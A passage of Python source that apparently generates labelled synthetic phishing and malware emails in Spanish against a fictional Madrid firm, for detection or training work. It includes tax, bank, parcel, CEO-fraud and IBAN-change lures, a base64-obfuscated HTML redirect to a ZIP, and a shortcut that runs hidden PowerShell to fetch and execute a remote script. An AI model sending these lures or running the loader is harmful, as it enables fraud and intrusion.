        "Genuine Google Calendar invitation sent from an attacker's Gmail (google.com/gmail.com DKIM pass); the event description carries a link to a fake purchase-order document on Firebase web.app.",
        hdr(top, orig), body)


# =========================================================================
#  SPAIN: Ingeniería Castellana de Proyectos (Madrid), Microsoft 365 — attacks
# =========================================================================

IC = "incaspro.es"


def es_aeat_notificacion_zip() -> None:
    slug = "es-aeat-notificacion-zip-grandoreiro"
    t = T(2024, 3, 12, 9, 31, 47, 1)
    dom = "clinicadentalalcobendas.es"
    srv = "es31.siteground.eu"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="35.214.233.71", host=srv, mailfrom=f"<info@{dom}>", from_dom=dom,
                        spf="pass", dkim="pass", dmarc="none", compauth="softpass", reason="201", ctry="NL", lang="es")
    hops = [f"Received: from [84.124.30.55] (port=61233 helo=[127.0.0.1])\n\tby {srv} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
            f"\t(Exim 4.96.2)\n\t(envelope-from <info@{dom}>)\n\tid 1rk0Z3-000Bqe-1M\n\tfor administracion@incaspro.es;\n\t{rfc(t - timedelta(seconds=2))}"]
    orig = [dkim_sig(dom, "default", slug, t, "Content-Transfer-Encoding:Content-Type:MIME-Version:Message-ID:Subject:From:To:Date:Sender:Reply-To:Cc"),
            f"Date: {rfc(t)}",
            "To: administracion@incaspro.es",
            f"From: {addr('Agencia Tributaria', f'info@{dom}', quote=False)}",
            f"Subject: {ew('Notificación electrónica pendiente de comparecencia - Ref. NT-2024-118273-MAD')}",
            f"Message-ID: <{alnum(slug, 40)}@{dom}>",
            "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
            "MIME-Version: 1.0"]
    orig += [f"X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
             f"X-AntiAbuse: Primary Hostname - {srv}", f"X-AntiAbuse: Original Domain - {IC}",
             "X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]", f"X-AntiAbuse: Sender Address Domain - {dom}",
             f"X-Get-Message-Sender-Via: {srv}: authenticated_id: info@{dom}", f"X-Authenticated-Sender: {srv}: info@{dom}"]
    link = "https://sedeagenciatributaria-notif.z6.web.core.windows.net/NT-2024-118273-MAD/Notificacion_AEAT_118273.zip"
    html = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#222">
<table width="640" style="border:1px solid #ccc" cellpadding="0" cellspacing="0">
<tr><td style="background:#8c0d1a;padding:12px 18px;color:#fff;font-size:16px"><b>Agencia Tributaria</b> &nbsp;|&nbsp; Sede electrónica</td></tr>
<tr><td style="padding:18px">
<p>Estimado/a contribuyente:</p>
<p>Le comunicamos que tiene a su disposición una <b>notificación electrónica</b> en la Sede Electrónica de la Agencia Estatal de Administración Tributaria relativa al procedimiento de comprobación limitada del <b>Impuesto sobre el Valor Añadido, ejercicio 2023</b>.</p>
<p>Referencia: <b>NT-2024-118273-MAD</b><br>NIF destinatario: B8******2<br>Fecha de puesta a disposición: 12/03/2024</p>
<p>Dispone de un plazo de 10 días naturales para acceder a su contenido. Transcurrido dicho plazo se entenderá rechazada (art. 43 de la Ley 39/2015).</p>
<p><a href="{link}">Descargar notificación (PDF)</a></p>
<p style="font-size:11px;color:#666">Este mensaje se ha generado automáticamente. Por favor, no responda a esta dirección.</p>
</td></tr></table></body></html>
"""
    body = alt(slug, f"Tiene una notificación electrónica pendiente. Ref. NT-2024-118273-MAD. Descargar: {link}\n", html, "phpmailer")
    add("malware", "phish", slug,
        "Grandoreiro-style Agencia Tributaria 'notificación pendiente' from a compromised dental clinic's mailbox (SPF/DKIM pass), linking to a ZIP on a web.core.windows.net static site.",
        hdr(top, hops, orig, tail), body)


def es_dgt_multa() -> None:
    slug = "es-dgt-multa-pendiente-pago"
    t = T(2025, 5, 20, 12, 44, 8, 2)
    dom = "dgt-sede-sanciones.es"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="217.160.0.88", host="mail.dgt-sede-sanciones.es",
                        mailfrom=f"<notificaciones@{dom}>", from_dom=dom, spf="pass", dkim="pass", dmarc="pass",
                        compauth="pass", reason="100", ctry="DE", lang="es")
    orig = [dkim_sig(dom, "default", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
            f"From: {addr('DGT - Dirección General de Tráfico', f'notificaciones@{dom}', 'UTF-8', 'Q')}",
            "To: javier.olmedo@incaspro.es",
            f"Subject: {ew('Notificación de denuncia - Expediente 28-114-832.771-3 - Pago con reducción del 50%')}",
            f"Date: {rfc(t)}",
            f"Message-ID: <{hx(slug, 24)}@{dom}>",
            "MIME-Version: 1.0"]
    link = f"https://{dom}/sanciones/pago/?expediente=281148327713"
    html = f"""<html><body style="margin:0;background:#f2f2f2;font-family:Arial,sans-serif">
<table width="600" align="center" style="background:#fff">
<tr><td style="padding:16px 24px;border-bottom:4px solid #004b87"><b style="color:#004b87;font-size:20px">DGT</b> <span style="color:#555;font-size:13px">Dirección General de Tráfico - Ministerio del Interior</span></td></tr>
<tr><td style="padding:24px;font-size:14px;line-height:21px;color:#333">
<p>Estimado/a conductor/a:</p>
<p>Le notificamos la denuncia formulada por el <b>sistema de control de velocidad (radar)</b> en la <b>A-2, p.k. 24,3, sentido Madrid</b>, el día 02/05/2025 a las 18:12 h, con el vehículo de su titularidad.</p>
<table style="font-size:13px;border-collapse:collapse;width:100%">
<tr><td style="border:1px solid #ddd;padding:6px">Expediente</td><td style="border:1px solid #ddd;padding:6px">28-114-832.771-3</td></tr>
<tr><td style="border:1px solid #ddd;padding:6px">Velocidad</td><td style="border:1px solid #ddd;padding:6px">138 km/h (limitada a 120 km/h)</td></tr>
<tr><td style="border:1px solid #ddd;padding:6px">Importe</td><td style="border:1px solid #ddd;padding:6px">100,00 € — <b>50,00 € con reducción por pronto pago</b></td></tr></table>
<p>Si abona la multa en los próximos <b>20 días naturales</b> se beneficiará de la reducción del 50% y no se le detraerán puntos del permiso.</p>
<p style="text-align:center"><a href="{link}" style="background:#004b87;color:#fff;padding:11px 30px;text-decoration:none">Consultar y pagar la multa</a></p>
</td></tr></table></body></html>
"""
    body = alt(slug, f"Notificación de denuncia. Expediente 28-114-832.771-3. Pague con reducción del 50%: {link}\n", html, "thunderbird")
    add("phishing", "phish", slug,
        "DGT speeding-fine lure (50% pronto-pago reduction) from a registered look-alike domain on IONOS with its own SPF/DKIM/DMARC pass, link to a card-payment page.",
        hdr(top, orig, tail), body)


def es_caixabank_dispositivo() -> None:
    slug = "es-caixabank-dispositivo-seguridad"
    t = T(2023, 10, 24, 8, 6, 55, 2)
    dom = "caixabank-avisos.com"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="45.148.10.212", host="srv-45-148-10-212.serveroffer.net",
                        mailfrom=f"<avisos@{dom}>", from_dom=dom, spf="pass", dkim="none", dmarc="none",
                        compauth="softpass", reason="201", ctry="NL", lang="es", helo="mail.caixabank-avisos.com")
    orig = [f"From: {addr('CaixaBank', f'avisos@{dom}', quote=False)}",
            "To: mvillanueva@incaspro.es",
            f"Subject: {ew('CaixaBankNow: su dispositivo de seguridad ha sido desvinculado')}",
            f"Date: {rfc(t)}",
            f"Message-ID: <{hx(slug, 32)}@{dom}>",
            "MIME-Version: 1.0"]
    link = "https://rb.gy/x4k2pq"
    plain = f"""CaixaBankNow

Estimado cliente:

Le informamos que su dispositivo de seguridad (CaixaBank Sign) ha sido desvinculado de su cuenta debido a la actualización obligatoria de la normativa europea de pagos.

Para seguir operando con normalidad, debe vincular nuevamente su dispositivo antes de las 48 horas siguientes a la recepción de este mensaje:

{link}

Si no realiza la vinculación, su acceso a CaixaBankNow quedará restringido por motivos de seguridad.

Atentamente,
Servicio de Atención al Cliente
CaixaBank, S.A.
"""
    body = text(plain, "plain", "8bit", "utf-8")
    add("phishing", "phish", slug,
        "Plain-text CaixaBankNow 'dispositivo de seguridad desvinculado' lure with a URL shortener, from a look-alike domain on a bulletproof VPS (SPF pass, no DKIM).",
        hdr(top, orig, tail), body)


def es_sabadell_google_redirect() -> None:
    slug = "es-sabadell-firma-psd2-redirect"
    t = T(2024, 6, 18, 17, 22, 9, 2)
    dom = "colegiosantaanavalencia.es"
    src = "PAXPR06MB8412.eurprd06.prod.outlook.com"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="40.107.103.52", host="mail-db3eur04on2052.outbound.protection.outlook.com",
                        mailfrom=f"<secretaria@{dom}>", from_dom=dom, spf="pass", dkim="pass", dmarc="pass",
                        compauth="pass", reason="100", ctry="IE", lang="es")
    hops = ms_outbound_hops(slug, t - timedelta(seconds=1), src, "2603:10a6:102:21f::14",
                            "DB8PR09CA0021.eurprd09.prod.outlook.com", "2603:10a6:10:a0::34")
    hops += ms_arc_out(slug, t, dom, "", dom)
    orig = [dkim_sig(dom, "selector1", slug, t,
                     "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
            f"From: {addr('Banco Sabadell', f'secretaria@{dom}', quote=False)}",
            "To: Undisclosed recipients:;",
            f"Subject: {ew('Banco Sabadell: adaptación de su firma digital a la normativa PSD2', 'iso-8859-1')}",
            "Thread-Topic: Banco Sabadell: adaptacion de su firma digital a la normativa PSD2",
            f"Thread-Index: {thread_index(slug)}",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: {outlook_mid(slug, src)}",
            "Accept-Language: es-ES, en-US",
            "Content-Language: es-ES",
            "X-MS-Has-Attach:",
            "X-MS-TNEF-Correlator:",
            "MIME-Version: 1.0"]
    target = "https://sabadell-firmadigital.com/particulares/acceso/"
    link = (f"https://www.google.com/url?q={target.replace(':', '%3A').replace('/', '%2F')}&amp;sa=D&amp;sntz=1&amp;usg=AOvVaw{alnum(slug + 'usg', 22)}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body>
<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt;color:#000">
<p><span style="color:#006dff;font-size:18pt"><b>Sabadell</b></span></p>
<p>Estimado/a cliente:</p>
<p>En cumplimiento de la Directiva Europea de Servicios de Pago (PSD2), Banco Sabadell está actualizando los sistemas de firma digital de todos sus clientes de Banca Online y Banca Empresas.</p>
<p>Su firma digital <b>todavía no ha sido adaptada</b>. Para evitar el bloqueo de las operaciones (transferencias, pagos y firma de remesas), complete la adaptación en el siguiente enlace:</p>
<p><a href="{link}">Adaptar firma digital</a></p>
<p>El proceso dura menos de 3 minutos y debe completarse antes del 21/06/2024.</p>
<p>Un saludo,<br>Banco de Sabadell, S.A.</p>
</div></body></html>
"""
    body = alt(slug, f"Adapte su firma digital Sabadell antes del 21/06/2024: {link.replace('&amp;', '&')}\n", html, "outlook", charset="iso-8859-1")
    add("phishing", "phish", slug,
        "Banco Sabadell PSD2 'firma digital' lure from a compromised school's M365 mailbox (all auth pass), hiding the destination behind a google.com/url open redirect.",
        hdr(top, hops, orig, tail), body)


def es_correos_onmicrosoft() -> None:
    slug = "es-correos-aduana-onmicrosoft"
    t = T(2023, 12, 12, 10, 58, 30, 1)
    dom = "correosenvios8812.onmicrosoft.com"
    src = "AS8PR10MB7214.EURPRD10.PROD.OUTLOOK.COM"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="40.107.22.113", host="mail-am6eur05on2113.outbound.protection.outlook.com",
                        mailfrom=f"<noreply@{dom}>", from_dom=dom, spf="pass", dkim="pass", dmarc="pass",
                        compauth="pass", reason="100", ctry="NL", lang="es")
    hops = ms_outbound_hops(slug, t - timedelta(seconds=1), src, "2603:10a6:20b:5c2::16",
                            "AM0PR02CA0132.eurprd02.prod.outlook.com", "2603:10a6:20b:28c::29")
    orig = [dkim_sig(dom, "selector1-" + dom.replace(".", "-"), slug, t,
                     "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
            f"From: {addr('Correos', f'noreply@{dom}', quote=False)}",
            "To: lucia.herrero@incaspro.es",
            f"Subject: {ew('Correos: su envío está retenido en aduana. Abone 1,99 EUR para su entrega')}",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: {outlook_mid(slug, src)}",
            "Content-Language: es-ES",
            "X-MS-Has-Attach:",
            "MIME-Version: 1.0"]
    link = "https://correos-seguimiento-envio.com/es/es/particulares/recibir/?n=LX228104533ES"
    html = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;background:#fafafa">
<table width="560" align="center" style="background:#fff;border:1px solid #eee">
<tr><td style="background:#ffcd00;padding:14px 20px;font-size:22px;color:#002e6d"><b>Correos</b></td></tr>
<tr><td style="padding:22px;font-size:14px;color:#333;line-height:21px">
<p>Hola,</p>
<p>Su envío <b>LX228104533ES</b> está retenido en nuestro centro de tratamiento aduanero porque los gastos de importación no han sido abonados.</p>
<p>Importe pendiente: <b>1,99 €</b></p>
<p>Por favor, efectúe el pago antes de 72 horas, de lo contrario el envío será devuelto.</p>
<p style="text-align:center"><a href="{link}" style="background:#002e6d;color:#fff;padding:10px 28px;text-decoration:none;border-radius:3px">Pagar y recibir mi envío</a></p>
<p style="font-size:11px;color:#999">Sociedad Estatal Correos y Telégrafos, S.A., S.M.E.</p>
</td></tr></table></body></html>
"""
    body = alt(slug, f"Su envío LX228104533ES está retenido. Abone 1,99 EUR: {link}\n", html, "outlook")
    add("phishing", "phish", slug,
        "Correos 1,99 € customs lure sent from a throw-away onmicrosoft.com tenant (SPF/DKIM/DMARC pass for that tenant) to a card-harvesting page.",
        hdr(top, hops, orig, tail), body)


def es_factura_html_redirect_zip() -> None:
    slug = "es-factura-pendiente-html-zip"
    t = T(2024, 4, 9, 11, 15, 2, 2)
    dom = "montajeselectricosvallecas.es"
    srv = "smtp-out.dinaserver.com"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="82.98.135.41", host=srv, mailfrom=f"<administracion@{dom}>", from_dom=dom,
                        spf="pass", dkim="pass", dmarc="none", compauth="softpass", reason="201", ctry="ES", lang="es")
    hops = [f"Received: from [192.168.1.42] (248.red-88-12-71.dynamicip.rima-tde.net [88.12.71.248])\n"
            f"\t(Authenticated sender: administracion@{dom})\n\tby {srv} (Postfix) with ESMTPSA id 4VDS2x0nQqz1XJ\n"
            f"\tfor <mvillanueva@incaspro.es>; {rfc(t - timedelta(seconds=3))}"]
    orig = [dkim_sig(dom, "dinaserver", slug, t, "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type"),
            f"Date: {rfc(t)}",
            f"From: {addr('Administración - Montajes Eléctricos Vallecas', f'administracion@{dom}', 'UTF-8', 'Q')}",
            "To: mvillanueva@incaspro.es",
            "Subject: Factura pendiente de pago FRA-2024-1138",
            f"Message-ID: <{hx(slug, 8)}.{hx(slug + 'a', 8)}@{dom}>",
            "MIME-Version: 1.0",
            "User-Agent: Mozilla Thunderbird"]
    plain = """Buenos días,

Adjunto les remitimos la factura FRA-2024-1138 correspondiente a los trabajos de instalación eléctrica de baja tensión en la obra de la nave de Getafe, que según nuestros registros continúa pendiente de pago.

Les rogamos revisen la documentación y nos confirmen la fecha prevista de abono.

Un saludo,

Departamento de Administración
Montajes Eléctricos Vallecas, S.L.
Tel. 91 478 22 13
"""
    page = """<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><title>Factura FRA-2024-1138</title>
<style>body{font-family:Segoe UI,Arial;background:#f3f3f3;text-align:center;padding-top:120px;color:#444}
.l{width:42px;height:42px;border:5px solid #ddd;border-top-color:#c00;border-radius:50%;margin:20px auto;animation:r 1s linear infinite}
@keyframes r{to{transform:rotate(360deg)}}</style></head>
<body><h3>Cargando documento Factura_FRA-2024-1138.pdf</h3><div class="l"></div><p>Si la descarga no comienza automáticamente, <a id="d" href="#">haga clic aquí</a>.</p>
<script>
var _p=["aHR0cHM6Ly9kb2N1bWVudG9zLWZhY3R1cmFjaW9uLmR1Y2tkbnMub3JnL2Rlc2Nhcmdhcy8=","RmFjdHVyYV9GUkEtMjAyNC0xMTM4LnppcA=="];
var u=atob(_p[0])+atob(_p[1]);document.getElementById("d").href=u;
setTimeout(function(){window.location.href=u;},1500);
</script></body></html>
"""
    body = Multi("mixed", boundary(slug, "thunderbird"), [
        text(plain, "plain", "8bit", "UTF-8"),
        attachment("text/html", "Factura_FRA-2024-1138.html", page.encode()),
    ])
    add("malware", "phish", slug,
        "Mekotio-style 'factura pendiente' from a compromised electrical contractor's mailbox; the HTML attachment base64-hides and auto-redirects to a ZIP on a duckdns host.",
        hdr(top, hops, orig, tail), body)


def es_ceo_operacion_confidencial() -> None:
    slug = "es-ceo-operacion-confidencial-lookalike"
    t = T(2025, 9, 16, 9, 48, 37, 2)
    dom = "incaspro-es.com"
    src = "GV1PR08MB10477.eurprd08.prod.outlook.com"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="40.107.159.79", host="mail-am0eur02on2079.outbound.protection.outlook.com",
                        mailfrom=f"<asanz@{dom}>", from_dom=dom, spf="pass", dkim="pass", dmarc="pass",
                        compauth="pass", reason="100", ctry="IE", lang="es")
    hops = ms_outbound_hops(slug, t - timedelta(seconds=1), src, "2603:10a6:150:1b3::12",
                            "AS4P190CA0021.EURP190.PROD.OUTLOOK.COM", "2603:10a6:20b:5e0::11")
    hops += ms_arc_out(slug, t, dom, "", dom)
    orig = [dkim_sig(dom, "selector1", slug, t,
                     "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
            f"From: {addr('Álvaro Sanz de la Fuente', f'asanz@{dom}', 'iso-8859-1', 'Q')}",
            f"To: {addr('Marta Villanueva', 'mvillanueva@incaspro.es', quote=False)}",
            f"Subject: {ew('Operación confidencial', 'iso-8859-1')}",
            "Thread-Topic: Operacion confidencial",
            f"Thread-Index: {thread_index(slug)}",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: {outlook_mid(slug, src)}",
            "Accept-Language: es-ES, en-US",
            "Content-Language: es-ES",
            "X-MS-Has-Attach:",
            "X-MS-TNEF-Correlator:",
            "Importance: high",
            "X-Priority: 1",
            "MIME-Version: 1.0"]
    plain = """Hola Marta,

Te escribo porque estamos cerrando la adquisición de una ingeniería en Oporto y necesito tu apoyo con la parte de tesorería. Es una operación sujeta a un acuerdo de confidencialidad con la CNMV, así que de momento no lo comentes con nadie de la oficina, ni siquiera con Sergio.

Hoy te contactará por correo D. Ricardo Alves, del despacho que nos asesora en la operación, para darte las instrucciones de la primera transferencia (depósito de garantía). Trátalo con la máxima prioridad, debe quedar ordenada antes de las 14:00.

Estaré reunido toda la mañana y no podré atender el teléfono, pero puedes responderme por aquí.

¿Puedo contar contigo?

Un saludo,

Álvaro Sanz de la Fuente
Director General
Ingeniería Castellana de Proyectos, S.L.

Enviado desde Outlook para iOS
"""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body>'
            '<div dir="ltr"><div style="font-family:Aptos,Aptos_EmbeddedFont,Aptos_MSFontService,Calibri,Helvetica,sans-serif;font-size:12pt">'
            + plain.replace("\n", "<br>\n") + "</div></div></body></html>\n")
    body = alt(slug, plain, html, "outlook", charset="iso-8859-1")
    add("phishing", "phish", slug,
        "CEO fraud opener from a look-alike domain (incaspro-es.com on its own M365 tenant, all auth pass): confidential acquisition, a 'lawyer' will send transfer instructions, no link.",
        hdr(top, hops, orig, tail), body)


def es_docusign_abuse() -> None:
    slug = "es-docusign-contrato-marco-abuse"
    t = T(2025, 1, 28, 16, 4, 18, 1)
    top, tail = rx_m365(ES_M365, slug, t=t, ip="64.207.219.135", host="mailda.docusign.net", mailfrom="<dse_NA3@docusign.net>",
                        from_dom="docusign.net", spf="pass", dkim="pass", dmarc="pass", compauth="pass", reason="100",
                        ctry="US", lang="es")
    env_id = guid(slug + "env").upper()
    orig = [dkim_sig("docusign.net", "mail", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:Reply-To"),
            f"Message-ID: <{guid(slug)}@docusign.net>",
            f"From: {addr('Departamento Jurídico Hormigones del Centro a través de Docusign', 'dse_NA3@docusign.net', 'utf-8', 'B')}",
            "Reply-To: Departamento Juridico <juridico.hormigones@proton.me>",
            f"To: {addr('Sergio Pastor', 'sergio.pastor@incaspro.es', quote=False)}",
            f"Date: {rfc(utc(t))}",
            f"Subject: {ew('Completar con Docusign: Contrato_Marco_Suministro_2025_INCASPRO.pdf')}",
            "MIME-Version: 1.0"]
    acct = guid(slug + "acct")
    link = f"https://na3.docusign.net/Signing/EmailStart.aspx?a={guid(slug + 'a')}&acct={acct}&er={guid(slug + 'er')}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:2px;margin:0;background:#eaeaea">
<table align="center" border="0" cellpadding="0" cellspacing="0" width="100%" style="max-width:640px;background:#fff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="padding:10px 24px"><img src="https://na3.docusign.net/Signing/Images/email/Email_Logo.png" alt="Docusign" style="width:116px;height:34px"></td></tr>
<tr><td style="padding:0 24px 30px"><table width="100%" style="background:#1e4ca1;color:#fff"><tr><td style="padding:28px 24px;text-align:center">
<img src="https://na3.docusign.net/member/Images/email/docInvite-white.png" width="75" height="75" alt=""><br>
<p style="font-size:16px;margin:16px 0">Departamento Jurídico Hormigones del Centro le ha enviado un documento para revisar y firmar.</p>
<a href="{link}" style="background:#ffc423;color:#333;font-size:15px;font-weight:bold;text-decoration:none;padding:10px 24px;border-radius:2px;display:inline-block">REVISAR DOCUMENTO</a>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px;font-size:15px;color:#333;line-height:20px">
<p><b>Departamento Jurídico Hormigones del Centro</b><br><span style="color:#666">juridico.hormigones@proton.me</span></p>
<p>Estimado Sergio,<br><br>Le remitimos el contrato marco de suministro de hormigón para 2025 con las nuevas condiciones de precio. El documento incluye un enlace al anexo de tarifas en el apartado 4. Rogamos su firma antes del viernes.<br><br>Saludos cordiales.</p>
</td></tr>
<tr><td style="padding:20px 24px;background:#eaeaea;font-size:11px;color:#666;line-height:14px">
<b>No comparta este correo electrónico</b><br>Este correo electrónico contiene un enlace seguro a Docusign. No comparta este correo electrónico, el enlace ni el código de acceso con otras personas.<br><br>
<b>Método de firma alternativo</b><br>Visite Docusign.com, haga clic en 'Access Documents' e introduzca el código de seguridad:<br>{env_id.replace('-', '')}{num(slug, 1, 9)}<br><br>
<b>Acerca de Docusign</b><br>Firme documentos electrónicamente en solo unos minutos. Es seguro. Independientemente de si está en una oficina, en casa o de viaje, Docusign es una solución de confianza para la gestión de transacciones digitales.<br><br>
Este mensaje se envió a sergio.pastor@incaspro.es a través de Docusign Electronic Signature Service.</td></tr>
</table></body></html>
"""
    plain = (f"Departamento Jurídico Hormigones del Centro le ha enviado un documento para revisar y firmar.\n\nREVISAR DOCUMENTO: {link}\n\n"
             "Estimado Sergio,\n\nLe remitimos el contrato marco de suministro de hormigón para 2025 con las nuevas condiciones de precio. "
             "El documento incluye un enlace al anexo de tarifas en el apartado 4. Rogamos su firma antes del viernes.\n\nSaludos cordiales.\n")
    body = alt(slug, plain, html, "dotnet")
    add("phishing", "phish", slug,
        "Genuine DocuSign envelope (docusign.net, all auth pass) created by an attacker posing as a concrete supplier's legal team with a Proton reply-to; the document itself links to the credential page.",
        hdr(top, orig, tail), body)


def es_bec_hormigones_ionos() -> None:
    slug = "es-bec-hormigones-lookalike-iban"
    t = T(2024, 10, 15, 13, 37, 52, 2)
    dom = "hormigonesdelcentros.es"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="212.227.126.187", host="mout.kundenserver.de", mailfrom=f"<lucia.martin@{dom}>",
                        from_dom=dom, spf="pass", dkim="none", dmarc="none", compauth="softpass", reason="201",
                        ctry="DE", lang="es")
    hops = [f"Received: from [192.168.1.35] ([85.58.201.117]) by mrelayeu.kundenserver.de\n (mreue011 [213.165.67.97]) with ESMTPSA (Nemesis) id "
            f"1M{alnum(slug + 'n', 5)}-1t{alnum(slug + 'n2', 9)}-00{alnum(slug + 'n3', 5)} for\n <lucia.herrero@incaspro.es>; {rfc(t - timedelta(seconds=2))}"]
    prev = f"<DU0PR02MB9374{HX(slug + 'prev', 24)}@DU0PR02MB9374.eurprd02.prod.outlook.com>"
    first = f"<{guid(slug + 'first')}@hormigonesdelcentro.es>"
    orig = [f"Message-ID: <{guid(slug)}@{dom}>",
            f"Date: {rfc(t)}",
            "MIME-Version: 1.0",
            "User-Agent: Mozilla Thunderbird",
            f"Subject: {ew('Re: Certificación nº 7 - Obra Nave Logística Getafe (pedido 24/0318)')}",
            "To: =?UTF-8?Q?Luc=C3=ADa_Herrero?= <lucia.herrero@incaspro.es>",
            f"Cc: administracion@incaspro.es",
            f"References: {first}\n {prev}",
            f"From: {addr('Lucía Martín - Hormigones del Centro', f'lucia.martin@{dom}', 'UTF-8', 'Q')}",
            "Content-Language: es-ES",
            f"In-Reply-To: {prev}",
            f"X-Provags-ID: V03:K1:{b64s(slug + 'prov', 80)}",
            f"X-UI-Out-Filterresults: notjunk:1;V03:K0:{b64s(slug + 'ui', 40)}="]
    plain = """Buenas tardes Lucía:

Gracias por confirmar la conformidad de la certificación nº 7. Le informamos de que, con motivo de la integración de nuestra tesorería en el grupo, a partir de este mes las facturas deben abonarse en la nueva cuenta que figura en el certificado de titularidad adjunto:

IBAN: ES91 1583 0001 1490 2271 4418
Titular: Hormigones del Centro, S.A.

Las facturas 24/1187 y 24/1203 (total 62.418,70 €) vencen el próximo día 20. Le agradecería que actualicen la ficha de proveedor y nos envíen el justificante una vez realizada la transferencia.

Quedo a su disposición.

Un saludo,

Lucía Martín
Dpto. Administración
Hormigones del Centro, S.A.
Tel. 91 691 30 44

El 14/10/2024 a las 17:05, Lucía Herrero escribió:
> Hola Lucía,
>
> Os confirmo que la certificación nº 7 está conforme por parte de la dirección de obra. La pasamos a pago en la próxima remesa.
>
> Un saludo,
> Lucía Herrero
> Compras - INCASPRO
"""
    cert = pdf_doc(["CERTIFICADO DE TITULARIDAD DE CUENTA", "", "La entidad certifica que la cuenta",
                    "ES91 1583 0001 1490 2271 4418", "figura abierta a nombre de HORMIGONES DEL CENTRO, S.A.",
                    "CIF A-28xxxxxx", "", "Y para que conste a los efectos oportunos se expide el presente",
                    "certificado en Madrid, a 10 de octubre de 2024."],
                   "Certificado de titularidad", "Microsoft: Print To PDF", "20241015123301+02'00'")
    body = Multi("mixed", boundary(slug, "thunderbird"), [
        text(plain, "plain", "8bit", "UTF-8"),
        attachment("application/pdf", "Certificado_titularidad_cuenta.pdf", cert),
    ])
    add("phishing", "phish", slug,
        "Supplier BEC in the certification thread from a look-alike (hormigonesdelcentros.es) IONOS mailbox with SPF pass and no DKIM, moving 62.418,70 € to a new IBAN with a fake ownership certificate.",
        hdr(top, hops, orig, tail), body)


def es_oferta_empleo_iso_lnk() -> None:
    slug = "es-oferta-empleo-neom-iso-lnk"
    t = T(2024, 2, 6, 10, 21, 33, 1)
    dom = "alrashid-engineering.com"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="146.70.88.14", host="mail.alrashid-engineering.com", mailfrom=f"<careers@{dom}>",
                        from_dom=dom, spf="pass", dkim="pass", dmarc="none", compauth="softpass", reason="201",
                        ctry="GB", lang="es")
    orig = [dkim_sig(dom, "mail", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
            f"From: {addr('Talent Acquisition - Al Rashid Engineering', f'careers@{dom}', quote=False)}",
            "To: javier.olmedo@incaspro.es",
            f"Subject: {ew('Propuesta: Jefe/a de Proyecto Infraestructuras - NEOM (Arabia Saudí) - 14.500 €/mes netos')}",
            f"Date: {rfc(t)}",
            f"Message-ID: <{hx(slug, 24)}@{dom}>",
            "MIME-Version: 1.0",
            "X-Mailer: Microsoft Outlook 16.0"]
    plain = """Estimado Javier:

Hemos encontrado su perfil en LinkedIn y creemos que encaja perfectamente con una posición que estamos cubriendo para uno de los paquetes de infraestructuras de NEOM (The Line), en Arabia Saudí.

- Puesto: Jefe/a de Proyecto - Obra civil e infraestructuras
- Retribución: 14.500 €/mes netos + vivienda y vehículo
- Contrato: 24 meses, rotación 10/3 semanas
- Incorporación: abril 2024

Le adjuntamos el dossier con la descripción completa del puesto, el paquete retributivo y el formulario de solicitud. Por motivos de confidencialidad del cliente el dossier se envía en formato imagen de disco; basta con hacer doble clic para abrirlo.

Si está interesado, le agradeceríamos que nos devolviera el formulario antes del viernes para programar una entrevista con el director del proyecto.

Atentamente,

Noura Al-Harbi
Senior Talent Acquisition Partner
Al Rashid Engineering & Contracting
Riyadh | Dubai | Madrid
"""
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-w hidden -ep bypass -c \"$p=$env:TEMP+'\\dossier.pdf';iwr https://cdn-hr-portal.alrashid-engineering.com/d/dossier.pdf -o $p;start $p;"
                             "iwr https://cdn-hr-portal.alrashid-engineering.com/d/upd.ps1 -UseBasicParsing|iex\"")
    iso = files.iso_image([("Descripcion_Puesto_y_Salario_NEOM.pdf.lnk", lnk)], "DOSSIER_NEOM")
    body = Multi("mixed", boundary(slug, "outlook_mixed"), [
        Multi("alternative", boundary(slug, "outlook"), [text(plain), text("<html><body><div style=\"font-family:Calibri;font-size:11pt\">" + plain.replace("\n", "<br>\n") + "</div></body></html>\n", "html")]),
        attachment("application/octet-stream", "Dossier_Oferta_NEOM_Jefe_Proyecto.iso", iso),
    ])
    add("malware", "phish", slug,
        "Fake recruiter offer for a NEOM project manager role with an ISO attachment hiding a .pdf.lnk that launches PowerShell to fetch a decoy and a second stage.",
        hdr(top, orig, tail), body)


# =========================================================================
#  LEGITIMATE MAIL
# =========================================================================

def nfe_xml(chave: str, numero: str, emit: dict, dest: dict, items: list[tuple[str, str, float, float]], dh: str,
            prot: str) -> bytes:
    det = ""
